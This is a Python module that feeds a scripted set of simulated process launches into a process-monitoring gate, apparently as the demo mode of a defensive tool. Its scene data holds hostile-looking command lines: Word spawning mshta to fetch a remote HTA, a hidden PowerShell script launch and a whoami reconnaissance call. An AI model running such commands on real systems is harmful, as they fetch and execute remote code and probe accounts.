"""The processes that `window.py --simulate` shows: a small scene, played in a simulated gate."""

import contextlib
import threading
import time

import _source  # noqa: F401 - comes before procmon
import procmon

EXPLORER, WORD = r"C:\Windows\explorer.exe", r"C:\Program Files\Microsoft Office\winword.exe"
SCENE = (  # seconds to wait, image, image of the parent, command line, seconds until the gate releases it
    (0.3, r"C:\Program Files\Git\cmd\git.exe", EXPLORER, "git.exe fetch --all --prune", 60),
    (0.5, r"C:\Windows\System32\mshta.exe", WORD, "mshta.exe http://example.com/invoice.hta", 60),
    (0.5, r"C:\Users\me\Downloads\setup-3.1.exe", EXPLORER, "setup-3.1.exe /quiet", None),
    (0.7, r"C:\Windows\System32\notepad.exe", EXPLORER, r"notepad.exe C:\Users\me\notes.txt", None),
    (0.7, r"C:\Windows\System32\whoami.exe", WORD, "whoami /all", 11),
    (0.7, r"C:\Windows\System32\cmd.exe", WORD,
     r"cmd.exe /c powershell -NoProfile -WindowStyle Hidden -File C:\Users\me\invoice.ps1", 30),
)  # fmt: skip


def play() -> procmon.SimulatedGate:
    """Return a gate, and play the scene in it from now on."""
    gate = procmon.SimulatedGate()
    parents = dict(zip((EXPLORER, WORD), gate.running_before(EXPLORER, WORD), strict=True))

    def run() -> None:
        limits = []
        with contextlib.suppress(procmon.GateClosed):  # the monitoring was stopped during the scene
            for pause, image, parent, command_line, limit in SCENE:
                time.sleep(pause)
                parent_pid = parents[parent].pid
                process = gate.start(image, parent_pid=parent_pid, command_line=command_line, hold_left=limit)
                limits += [(time.monotonic() + limit, process)] if limit else []
        for when, process in sorted(limits, key=lambda each: each[0]):
            time.sleep(max(0.0, when - time.monotonic()))
            with contextlib.suppress(ValueError, procmon.ProcmonError):  # it was answered in time
                gate.time_out(process)

    threading.Thread(target=run, daemon=True).start()
    return gate
